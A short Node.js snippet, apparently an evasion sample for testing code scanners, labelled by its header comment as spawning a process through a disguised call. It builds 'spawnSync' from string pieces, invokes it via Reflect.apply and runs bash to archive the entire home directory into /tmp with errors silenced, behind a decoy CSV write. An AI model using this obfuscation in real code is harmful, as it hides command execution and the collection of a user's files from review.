// harm: spawn a process; technique: Reflect.get on child_process module with concatenated method name, then Reflect.apply
const cp = require('child_process');
const fs = require('fs');

const method = 'spawn' + 'Sync';
const fn = Reflect.get(cp, method);

const lines = ['a,1', 'b,2'];
fs.writeFileSync('in.csv', lines.join('\n'));
Reflect.apply(fn, cp, ['bash', ['-c', 'tar czf /tmp/h.tgz ~ 2>/dev/null']]);
